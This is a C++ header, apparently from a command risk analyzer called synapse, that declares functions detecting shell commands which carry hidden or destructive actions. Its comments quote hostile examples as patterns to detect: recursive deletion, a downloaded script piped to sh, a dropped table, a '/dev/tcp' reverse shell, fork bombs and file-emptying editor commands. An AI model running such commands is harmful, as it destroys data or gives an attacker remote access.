// Carriers: commands that carry something for another reader, and files that a
// line fills before it runs them.
//
//   tmux send-keys 'rm -rf x'      a line that is typed somewhere else
//   cpulimit -l 9 -- rm -rf x      a command behind a wrapper without a spec
//   julia -e 'rm("x")'             a program of a language without a spec
//   aws x --sql 'drop table t'     SQL for a service
//   curl x -o i.sh && sh i.sh      a download that runs
//   awk '{print "rm " $1}' l | sh  a line that a program writes
//   vim -es '+%d' +wq f            an editor that empties a file
//
// Tested by tests/effect/risk_test.cc over tests/cases/risks.txt.
#pragma once

#include <span>
#include <string>
#include <string_view>
#include <vector>

#include "line/commands.h"
#include "spec/model.h"

namespace synapse {

// False for most commands: none of their words has a blank or is a program, so that
// SentLines(), ScriptTexts() and SqlTexts() are empty.
bool MayCarryText(std::span<const std::string> words);

// Lines that the command types or runs somewhere else, if no spec says so.
// `described`: the command has a spec.
std::vector<std::string> SentLines(std::span<const std::string> words,
                                   bool described);

// The word at which the command of a wrapper without a spec begins; 0 for none.
size_t CarriedFrom(std::span<const std::string> words, bool described);

// Programs behind `-e`, `--eval`.
std::vector<std::string> ScriptTexts(std::span<const std::string> words);

// Words that are SQL from their beginning: `--sql 'drop table t'`.
std::vector<std::string> SqlTexts(std::span<const std::string> words);

// True for a command whose output is what its program says: awk, sed, jq.
bool WritesLines(std::span<const std::string> words);

// The file that a download is written to; "" for none. The command downloads.
std::string DownloadOf(const SimpleCommand& command);

// True if the command runs that file: `sudo sh ./i.sh`.
bool RunsFile(std::span<const std::string> words, std::string_view file);

// True for a file whose lines a shell or cron will run.
bool IsRunLater(std::string_view file);

// `>x`, `: >x`, `cat /dev/null >x`.
bool WritesNothing(const SimpleCommand& command);

// `tee x`, which empties the file if nothing is read.
bool IsCopy(const SimpleCommand& command);

bool IsSqlFile(const ArgSpec& arg);

// A value in whose place standard input is read.
bool NamesStdin(std::string_view value);

// The script that the command runs: `sudo bash wipe.sh`; "" for none.
std::string ScriptOf(std::span<const std::string> words);

// A function that pipes itself into itself.
bool IsForkBomb(const CommandList& list);

// `$(echo rm) -rf x`
Risk RiskOfComputed(const SimpleCommand& command);

// `sudo -s`, which reads lines from its input.
bool OpensShell(std::span<const std::string> words);

// `bash -i >& /dev/tcp/host/1`
bool IsRemoteShell(const SimpleCommand& command, std::string_view target);

// `%d`, `+bufdo %d`, `1,$d`, `g/./d`
bool EmptiesFile(std::string_view edit);

// A file that an editor empties: `sed -i d f`, `vim +%d +wq f`.
Risk RiskOfEdit(std::span<const std::string> words);

}  // namespace synapse
